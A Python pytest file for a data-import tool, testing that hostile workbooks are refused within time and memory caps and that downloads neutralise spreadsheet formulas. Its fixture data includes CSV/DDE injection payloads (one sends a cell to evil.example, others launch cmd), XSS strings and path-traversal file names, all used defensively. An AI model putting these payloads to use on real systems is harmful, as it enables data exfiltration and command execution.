"""Hostile uploads: each file of the corpus is refused by the command line in under 10 s and 1 GB,
with one sentence (or the list of problems), no traceback, and the store unchanged. Text that looks
like formulas, HTML or Markdown is imported as text and leaves every download neutralised.

A few files go through a real `python -m outcomes import` process (CLI_CASES: its exit code, its
stderr, no traceback, and the whole process tree measured); the rest through the same entry point
in this process, `outcomes.__main__.main`, whose reading still happens in the guard's capped child
processes, measured as this process's growth plus every process the import starts.
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pandas as pd
import psutil
import pytest
from openpyxl import load_workbook

from outcomes import __main__ as cli
from outcomes import db, ingest
from outcomes.filters import Filters
from outcomes.outputs import downloads as exports

from .hostile import CORPUS, Refusal
from .workbooks import valid_book, write_xlsx

ROOT = Path(__file__).resolve().parents[2]
SECONDS = 10.0
MEGABYTES = 1024.0
TRACES = ("Traceback", "panicked", "stack backtrace", "RUST_BACKTRACE", "Error:")


def held(store: Path) -> tuple[list[int], object]:
    """The store's versions and the latest one's source digest: what a refused import must leave alone."""
    return [version.version for version in db.versions(store)], db.dataset(store)["sha256"]


def run_measured(args: list[str]) -> tuple[subprocess.CompletedProcess, float, float]:
    """Run a command; its result, wall-clock seconds, and the peak of its process tree's summed RSS in MB.

    The tree (the command, the reader's server and the reader) is sampled every 20 ms; pages
    shared between them are counted once per process, so the figure errs high.
    """
    start = time.perf_counter()
    process = psutil.Popen(args, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    peak = 0.0
    while process.poll() is None:
        total = 0
        for member in [process, *process.children(recursive=True)]:
            try:
                total += member.memory_info().rss
            except psutil.Error:
                continue
        peak = max(peak, total / 1_048_576)
        if time.perf_counter() - start > 120:
            process.kill()
        time.sleep(0.02)
    stdout, stderr = process.communicate()
    elapsed = time.perf_counter() - start
    return subprocess.CompletedProcess(args, process.returncode, stdout, stderr), elapsed, peak


@pytest.fixture(scope="module")
def store(sample_db: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store holding the sample: every hostile import is tried against it."""
    path = tmp_path_factory.mktemp("store") / "store"
    shutil.copytree(sample_db, path)
    return path


@pytest.fixture(scope="module")
def before(store: Path) -> tuple[list[int], object]:
    """What the store holds before any hostile import: every one of them must leave exactly this."""
    state = held(store)
    db.close(store)
    return state


@pytest.fixture(scope="module")
def startup_seconds() -> float:
    """What the command line takes to validate the sample: starting Python and the reading server,
    which a running app has done already, are not the hostile file's to count."""
    run, elapsed, _ = run_measured([sys.executable, "-m", "outcomes", "validate", str(db.SAMPLE_WORKBOOK)])
    assert run.returncode == 0, run.stderr
    return elapsed


# One of each path through the command line: the reader killed by its memory cap, a workbook rejected
# with problems, a lying zip directory, a CSV folder, an OLE file; the rest of the corpus runs in-process.
CLI_CASES = [
    "stray cell at XFD1048576, lying dimension",
    "a million formatted empty rows",
    "bomb behind a lying zip directory",
    "24 million CSV lines",
    "password-protected xls",
]


@pytest.mark.parametrize("case", CLI_CASES)
def test_hostile_upload_is_refused_quickly_in_one_sentence_by_the_command(
    case: str, store: Path, before: tuple[list[int], object], startup_seconds: float, tmp_path: Path
) -> None:
    build, refusal = CORPUS[case]
    path = build(tmp_path)
    run, elapsed, peak_mb = run_measured([sys.executable, "-m", "outcomes", "import", str(path), "--db", str(store)])
    output = run.stdout + run.stderr
    assert run.returncode == 1, output
    assert not any(trace in output for trace in TRACES), output
    assert_refused(refusal, run.stdout, run.stderr)
    assert elapsed - startup_seconds < SECONDS, f"{elapsed:.1f} s (start-up {startup_seconds:.1f} s)"
    assert peak_mb < MEGABYTES, f"{peak_mb:.0f} MB"
    assert_unchanged(store, before)


def call_measured(argv: list[str]) -> tuple[int, float, float]:
    """`outcomes.__main__.main(argv)` in this process: its exit code, wall-clock seconds, and the peak, in MB,
    of this process's growth plus the summed RSS of every process started meanwhile (the guard's readers,
    and its fork server if this call starts it), sampled every 20 ms."""
    me = psutil.Process()
    there_before = {child.pid for child in me.children(recursive=True)}
    base = me.memory_info().rss
    peak = 0.0
    done = threading.Event()

    def sample() -> None:
        nonlocal peak
        while not done.is_set():
            total = me.memory_info().rss - base
            for child in me.children(recursive=True):
                if child.pid in there_before:
                    continue
                try:
                    total += child.memory_info().rss
                except psutil.Error:
                    continue
            peak = max(peak, total / 1_048_576)
            done.wait(0.02)

    sampler = threading.Thread(target=sample, daemon=True)
    start = time.perf_counter()
    sampler.start()
    try:
        code = cli.main(argv)
    finally:
        done.set()
        sampler.join()
    return code, time.perf_counter() - start, peak


@pytest.mark.parametrize("case", [case for case in CORPUS if case not in CLI_CASES])
def test_hostile_upload_is_refused_quickly_in_one_sentence(
    case: str, store: Path, before: tuple[list[int], object], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    build, refusal = CORPUS[case]
    path = build(tmp_path)
    capsys.readouterr()
    code, elapsed, peak_mb = call_measured(["import", str(path), "--db", str(store)])
    out, err = capsys.readouterr()
    assert code == 1, out + err
    assert not any(trace in out + err for trace in TRACES), out + err
    assert_refused(refusal, out, err)
    assert elapsed < SECONDS, f"{elapsed:.1f} s"
    assert peak_mb < MEGABYTES, f"{peak_mb:.0f} MB"
    assert_unchanged(store, before)


def test_some_files_of_the_corpus_go_through_a_real_command_line_process() -> None:
    """The rest go through the same `main` in-process: every file is tried once, one way or the other."""
    assert set(CLI_CASES) <= set(CORPUS)
    assert len(CLI_CASES) >= 5


def assert_unchanged(store: Path, before: tuple[list[int], object]) -> None:
    """The store holds what it held before, and logged the attempt as refused (the store opened once)."""
    try:
        assert held(store) == before, "a version was added or changed"
        newest = db.import_log(store).iloc[0]  # the log lists the newest attempt first
    finally:
        db.close(store)
    assert newest["outcome"] in ("unreadable", "rejected")
    assert pd.isna(newest["version"])


def assert_refused(refusal: Refusal, stdout: str, stderr: str) -> None:
    if refusal.rejected:
        assert re.search(r"\d+ problems?; nothing was loaded", stderr), stderr
        assert "loaded into" not in stdout
        return
    assert stdout == ""
    lines = stderr.splitlines()
    assert len(lines) == 1, stderr
    sentence = lines[0].removeprefix("error: ")
    assert lines[0].startswith("error: "), lines
    assert sentence.endswith((".", "?")), lines
    assert refusal.words in sentence, sentence
    assert len(sentence) < 300, sentence


def test_corpus_has_at_least_thirty_files() -> None:
    assert len(CORPUS) >= 30


def test_a_capped_reader_does_not_stop_the_next_import(tmp_path: Path) -> None:
    """After a reader was killed by its memory cap, the same process validates a good workbook."""
    hostile, _ = CORPUS["stray cell at XFD1048576, lying dimension"]
    with pytest.raises(ingest.UnreadableSourceError) as caught:
        ingest.validate(hostile(tmp_path))
    assert "OUTCOMES_MAX_PARSE_MB" in str(caught.value)
    assert ingest.validate(write_xlsx(valid_book(), tmp_path / "good.xlsx")).ok


def test_a_slow_reader_is_stopped_by_the_time_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    build, _ = CORPUS["a million formatted empty rows"]
    path = build(tmp_path)
    monkeypatch.setenv("OUTCOMES_MAX_PARSE_SECONDS", "0.05")
    start = time.perf_counter()
    with pytest.raises(ingest.UnreadableSourceError) as caught:
        ingest.validate(path)
    assert time.perf_counter() - start < 5
    assert str(caught.value) == (
        "million-empty-rows.xlsx took longer than 0 s to read and was stopped (OUTCOMES_MAX_PARSE_SECONDS); "
        "is it far larger than it looks?"
    )


# --------------------------------------------------------------------------- hostile text is text

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
MARKUP = ["<img src=x onerror=alert(1)>", "[x](javascript:alert(1))", "![b](http://host/x.png)", "**bold** _it_"]


@pytest.fixture(scope="module")
def hostile_text_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store loaded from a workbook whose names are formulas, HTML and Markdown."""
    folder = tmp_path_factory.mktemp("text")
    book = valid_book()
    payloads = FORMULAS + MARKUP
    for row, payload in zip(book["organisations"], payloads, strict=False):
        row["name"] = payload
    book["clusters"][0]["name"] = payloads[3]
    book["clusters"][1]["name"] = payloads[6]
    book["clusters"][0]["sector"] = payloads[0]
    book["clusters"][1]["subregion"] = payloads[7]
    book["programme"][0]["name"] = payloads[8]
    workbook_path = write_xlsx(book, folder / "text.xlsx")
    # openpyxl writes text that starts with "=" as a formula; a user's typed text is a string cell
    workbook = load_workbook(workbook_path)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    workbook.save(workbook_path)
    path = folder / "store.duckdb"
    result = ingest.import_workbook(workbook_path, path)
    assert result.ok, result.report()
    return path


def test_formulas_html_and_markdown_in_names_are_imported_as_text(hostile_text_store: Path) -> None:
    with db.reading(hostile_text_store) as cursor:
        names = [name for (name,) in cursor.execute("SELECT name FROM organisations ORDER BY org_id").fetchall()]
        clusters = cursor.execute("SELECT name, sector, subregion FROM clusters ORDER BY cluster_id").fetchall()
        programme = cursor.execute("SELECT name FROM programme").fetchone()
    assert names == [*FORMULAS[:3]]
    assert clusters == [(FORMULAS[3], FORMULAS[0], "Toruń"), (MARKUP[0], "ICT", MARKUP[1])]
    assert programme == (MARKUP[2],)


def test_every_download_of_every_query_neutralises_formulas(hostile_text_store: Path) -> None:
    """Each named query's table, as CSV and as xlsx: no text cell can run as a formula when opened."""
    params = {**Filters().params(), "cluster_id": "K1", "stage": "supported_clusters"}
    checked = 0
    for name in db.query_names():
        frame = db.run_query(name, hostile_text_store, **params)
        if frame.empty:
            continue
        rows = list(csv.reader(io.StringIO(exports.table_csv(frame).decode("utf-8-sig"), newline="")))
        sheet = load_workbook(io.BytesIO(exports.table_xlsx(frame)), read_only=True).worksheets[0]
        cells = [cell for row in rows for cell in row]
        cells += [value for row in sheet.iter_rows(values_only=True) for value in row if isinstance(value, str)]
        for cell in cells:
            assert not cell.startswith(exports.FORMULA_STARTS) or cell.startswith("'"), (name, cell)
            if cell.lstrip("'") in FORMULAS:
                checked += 1
    assert checked >= len(FORMULAS), "the payloads should reach some downloads"


def test_staged_uploads_a_killed_server_left_go_when_a_server_starts(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    stale = tmp_path / f"{ingest.STAGED_PREFIX}old"
    stale.mkdir()
    (stale / "book.xlsx").write_bytes(b"left behind")
    day_ago = time.time() - ingest.STALE_AFTER_S - 60
    os.utime(stale, (day_ago, day_ago))
    live = ingest.StagedUpload([("book.xlsx", b"being checked")])  # another server's upload, minutes old
    other = tmp_path / "not-ours"
    other.mkdir()
    os.utime(other, (day_ago, day_ago))
    assert ingest.remove_stale_uploads() == 1
    assert not stale.exists()
    assert live.path.exists()
    assert other.exists()
    live.discard()


def test_staged_names_stay_in_their_folder(tmp_path: Path) -> None:
    """The data page stages an upload under a name without folders or control characters."""
    from outcomes.guard import safe_file_name

    assert safe_file_name("../../etc/passwd.xlsx") == "passwd.xlsx"
    assert safe_file_name("..\\..\\boot.ini.xlsx") == "boot.ini.xlsx"
    assert safe_file_name("report\x1b[31m\n.xlsx") == "report_[31m_.xlsx"
    assert safe_file_name("..") == "upload"
    assert os.sep not in safe_file_name("a/b\\c.csv")
